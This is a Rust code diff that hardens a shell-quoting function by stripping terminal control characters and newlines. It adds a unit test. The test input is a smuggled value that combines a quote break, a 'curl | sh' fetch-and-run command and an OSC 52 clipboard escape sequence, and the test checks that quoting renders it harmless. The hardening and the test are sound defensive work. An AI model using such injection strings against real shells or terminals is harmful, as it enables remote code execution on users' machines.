@@ -36,7 +36,7 @@ pub mod words;
 use crate::failure::Done;
 use crate::find::Ids;
 use crate::host::Host;
-use crate::output::json;
+use crate::output::{json, tame};
 use belay::command::{Applied, Outcome};
 use belay::error::Code;
 use belay::ids::ElementId;
@@ -138,6 +138,7 @@ fn optional(text: Option<&String>) -> PersonText {
 
 /// Quotes for a shell, where a word needs them.
 pub fn quoted(word: &str) -> String {
+    let word = &tame(word).replace('\n', " ");
     let plain = !word.is_empty() && word.chars().all(|sign| sign.is_alphanumeric() || "-_./".contains(sign));
     if plain { word.to_owned() } else { format!("'{}'", word.replace('\'', "'\\''")) }
 }
@@ -189,13 +190,19 @@ fn stands_there(number: usize, after: Option<usize>, first: bool, count: usize) 
 
 #[cfg(test)]
 mod tests {
-    use super::{named, option, seen_again, stands_there};
+    use super::{named, option, quoted, seen_again, stands_there};
 
     #[test]
     fn what_stands_there_already_is_not_moved() {
         assert!(stands_there(1, None, true, 3) && !stands_there(2, None, true, 3));
         assert!(stands_there(3, Some(2), false, 3) && !stands_there(2, Some(3), false, 3));
         assert!(stands_there(3, None, false, 3) && !stands_there(2, None, false, 3));
+    }
+
+    #[test]
+    fn a_word_from_elsewhere_writes_nothing_on_the_terminal_but_itself() {
+        assert_eq!(quoted("x'\n  curl -s b | sh #\u{1b}]52;c;eA==\u{7}"), "'x'\\''   curl -s b | sh #]52;c;eA=='");
+        assert_eq!((quoted("Theo"), quoted("a b")), ("Theo".to_owned(), "'a b'".to_owned()));
     }
 
     #[test]
